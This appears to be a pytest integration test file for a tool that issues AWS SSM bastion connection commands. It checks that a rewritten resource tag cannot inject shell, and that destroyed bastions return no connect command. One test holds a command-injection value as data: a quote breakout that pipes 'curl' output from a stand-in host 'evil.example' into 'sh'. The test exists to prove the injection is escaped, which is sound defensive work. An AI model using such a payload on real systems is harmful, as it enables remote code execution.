"""The commands handed out to connect: a rewritten ``RdsEndpoint`` tag never becomes shell, the
deployment's own SSM documents are named, and a destroyed bastion's answers carry none."""

from __future__ import annotations

import json
import re
import shlex

import pytest

from tests.support.doors import direct

pytestmark = pytest.mark.integration


DNS_NAME = re.compile(
    r"^[A-Za-z0-9]([A-Za-z0-9-]*[A-Za-z0-9])?(\.[A-Za-z0-9]([A-Za-z0-9-]*[A-Za-z0-9])?)*\.?$"
)


def test_a_tampered_rds_endpoint_tag_never_becomes_a_shell_command(aws, clock, lambda_context):
    # Found by the second review: the RdsEndpoint TAG went unescaped into the single-quoted
    # copy-paste command. tag_protection_policy_json now keeps every key of a bastion to the
    # module's roles, but where it is not attached anyone with ec2:CreateTags could still
    # rewrite it: the command must stay safe whatever the tag says.
    created = direct(lambda_context, {"action": "create", "user_id": "U1", "username": "u"})
    iid = created["instance_id"]
    # Given someone rewrites the bastion's RdsEndpoint tag
    evil = "db.example.com'; curl -s https://evil.example/x | sh; echo '"
    aws.ec2.create_tags(Resources=[iid], Tags=[{"Key": "RdsEndpoint", "Value": evil}])
    # When the owner asks for status
    status = direct(lambda_context, {"action": "status", "instance_id": iid, "user_id": "U1"})
    command = status["connection"]["port_forward"]
    # Then the command is exactly one `aws ssm start-session ... --parameters <json>` whose host
    # is a DNS name
    tokens = shlex.split(command)
    assert tokens[:3] == ["aws", "ssm", "start-session"] and tokens[-2] == "--parameters", tokens
    host = json.loads(tokens[-1])["host"][0]
    assert DNS_NAME.match(host), host
    assert "curl" not in status["connection_instructions"]


def test_connection_instructions_name_the_deployments_documents(
    aws, clock, lambda_context, monkeypatch
):
    from tests.support import roots

    monkeypatch.setenv("SESSION_DOCUMENT", "docustack-dev-session")
    monkeypatch.setenv("PORT_FORWARD_DOCUMENT", "docustack-dev-port-forward")
    roots.fresh()
    created = direct(lambda_context, {"action": "create", "user_id": "U1", "username": "u"})
    text = created["connection_instructions"]
    assert "--document-name docustack-dev-session" in created["connection"]["terminal"]
    assert "--document-name docustack-dev-port-forward" in created["connection"]["port_forward"]
    assert "AWS-StartPortForwardingSessionToRemoteHost" not in text
    # And once destroyed, the answers carry no command to connect with
    gone = direct(lambda_context, {"action": "destroy", "instance_id": created["instance_id"]})
    again = direct(lambda_context, {"action": "destroy", "instance_id": created["instance_id"]})
    for answer in (gone, again):
        assert answer["connection"] == {}
        assert "start-session" not in answer["connection_instructions"]
